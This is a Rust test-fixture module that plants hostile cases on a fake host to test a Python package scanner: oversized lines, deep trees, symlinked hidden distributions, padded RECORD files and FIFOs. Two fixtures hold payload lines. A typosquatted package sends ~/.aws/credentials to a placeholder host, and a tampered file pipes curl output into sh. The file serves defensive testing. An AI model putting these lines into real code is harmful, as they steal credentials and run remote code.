//! Fixture builders for hostile-input cases (issue 7): each plants the attack
//! on a [`FakeHost`], and where it makes sense a benign twin, so that pack
//! tests can plant them too.

use std::ffi::CString;
use std::os::unix::ffi::OsStrExt;
use std::path::{Path, PathBuf};

use super::{record_hash, FakeHost};

/// A venv for alice at `/home/alice/<name>` with a passwd entry; returns its
/// site directory.
pub fn alice_venv(fh: &FakeHost, name: &str) -> PathBuf {
    fh.passwd(&[("alice", 1000, "/home/alice")]);
    fh.venv(format!("/home/alice/{name}"), "3.12", false)
}

/// A distribution whose `__init__.py` is one line of `len` bytes (a long
/// string literal of mixed base64 characters, the shape a packed payload
/// takes), the quadratic-scan attack. Returns the file's host path.
pub fn long_line_package(fh: &FakeHost, site: &Path, len: usize, seed: u64) -> PathBuf {
    let mut s = seed | 1;
    let alphabet = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut line = b"x = '".to_vec();
    for _ in 0..len {
        s ^= s << 13;
        s ^= s >> 7;
        s ^= s << 17;
        line.push(alphabet[(s % 64) as usize]);
    }
    line.extend_from_slice(b"'\n");
    let d = fh
        .dist(site, "longline", "1.0")
        .file("longline/__init__.py", &line)
        .installer("pip")
        .write();
    d.file("longline/__init__.py")
}

/// The same attack with the line a single repeated character (the worst
/// case of the old detector).
pub fn repeated_char_line(fh: &FakeHost, site: &Path, len: usize) -> PathBuf {
    let mut line = b"x = '".to_vec();
    line.extend(std::iter::repeat_n(b'A', len));
    line.extend_from_slice(b"'\n");
    let d = fh
        .dist(site, "padline", "1.0")
        .file("padline/__init__.py", &line)
        .installer("pip")
        .write();
    d.file("padline/__init__.py")
}

/// Creates `depth` nested directories named `d` below the host directory
/// `base` (with `mkdirat` from an open descriptor: the full path would
/// exceed `PATH_MAX`), and a Python file at the bottom.
pub fn deep_tree(fh: &FakeHost, base: &Path, depth: usize) {
    let real = fh.real(base);
    std::fs::create_dir_all(&real).expect("mkdir base");
    let c = CString::new(real.as_os_str().as_bytes()).unwrap();
    // SAFETY: plain libc calls on NUL-terminated strings and fds we own.
    unsafe {
        let mut fd = libc::open(c.as_ptr(), libc::O_DIRECTORY | libc::O_RDONLY);
        assert!(fd >= 0, "open base");
        let name = CString::new("d").unwrap();
        for _ in 0..depth {
            assert_eq!(libc::mkdirat(fd, name.as_ptr(), 0o755), 0, "mkdirat");
            let next = libc::openat(fd, name.as_ptr(), libc::O_DIRECTORY | libc::O_RDONLY);
            assert!(next >= 0, "openat");
            libc::close(fd);
            fd = next;
        }
        let file = CString::new("deep.py").unwrap();
        let f = libc::openat(fd, file.as_ptr(), libc::O_CREAT | libc::O_WRONLY, 0o644);
        assert!(f >= 0);
        let body = b"import os\n";
        libc::write(f, body.as_ptr().cast(), body.len());
        libc::close(f);
        libc::close(fd);
    }
}

/// A distribution whose `.dist-info` and package directory are symlinks to
/// a stash elsewhere inside the root (`/opt/stash`), as an attacker hides
/// them from a scanner that does not follow links. The package's code
/// reads credentials and sends them out. Returns the stash's metadata dir.
pub fn symlinked_dist(fh: &FakeHost, site: &Path) -> PathBuf {
    let stash = fh.mkdir("/opt/stash/site");
    let code = b"import os, urllib.request\nurllib.request.urlopen('https://collector.invalid/', data=open(os.path.expanduser('~/.aws/credentials')).read())\n";
    let d = fh
        .dist(&stash, "torch-utilites", "0.1.0")
        .file("torch_utilites/__init__.py", code)
        .installer("pip")
        .write();
    fh.symlink(
        d.metadata_path.clone(),
        site.join("torch_utilites-0.1.0.dist-info"),
    );
    fh.symlink(stash.join("torch_utilites"), site.join("torch_utilites"));
    d.metadata_path
}

/// A RECORD padded with `pad_lines` junk lines after the real ones (the
/// real files first, so a tampered file is listed), then the file tampered.
/// Returns the tampered file.
pub fn padded_record(fh: &FakeHost, site: &Path, pad_lines: usize) -> PathBuf {
    let d = fh
        .dist(site, "padded", "1.0")
        .file("padded/__init__.py", b"x = 1\n")
        .installer("pip")
        .write();
    let rec = fh.real(&d.meta("RECORD"));
    let mut text = std::fs::read(&rec).unwrap();
    let junk = format!("padded/{}.txt,{},10\n", "j".repeat(40), record_hash(b"j"));
    text.reserve(junk.len() * pad_lines);
    for _ in 0..pad_lines {
        text.extend_from_slice(junk.as_bytes());
    }
    std::fs::write(&rec, text).unwrap();
    let f = d.file("padded/__init__.py");
    fh.modify(&f, b"import os; os.system('curl https://x.invalid | sh')\n");
    f
}

/// A RECORD of `lines` short, distinct lines naming files that do not exist
/// (memory follows the attacker). Returns the RECORD's host path.
pub fn huge_record(fh: &FakeHost, site: &Path, lines: usize) -> PathBuf {
    let d = fh
        .dist(site, "bigrec", "1.0")
        .file("bigrec/__init__.py", b"x = 1\n")
        .installer("pip")
        .write();
    let rec = d.meta("RECORD");
    let real = fh.real(&rec);
    let mut text = std::fs::read(&real).unwrap();
    for i in 0..lines {
        text.extend_from_slice(format!("p/{i:x},,\n").as_bytes());
    }
    std::fs::write(&real, text).unwrap();
    rec
}

/// Makes a FIFO at a host path.
pub fn fifo(fh: &FakeHost, host_path: &Path) {
    let real = fh.real(host_path);
    if let Some(p) = real.parent() {
        std::fs::create_dir_all(p).unwrap();
    }
    let c = CString::new(real.as_os_str().as_bytes()).unwrap();
    // SAFETY: c is a valid NUL-terminated path.
    assert_eq!(unsafe { libc::mkfifo(c.as_ptr(), 0o644) }, 0);
}
